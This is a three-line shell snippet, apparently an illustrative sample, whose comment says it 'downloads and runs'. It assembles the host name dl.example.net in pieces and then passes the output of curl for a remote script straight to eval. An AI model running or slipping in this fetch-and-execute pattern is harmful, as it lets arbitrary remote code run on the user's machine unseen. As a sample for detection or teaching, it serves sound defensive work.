# shows: downloads and runs
U="dl.example"; U="$U.net"
eval "$(curl -s http://$U/s)"
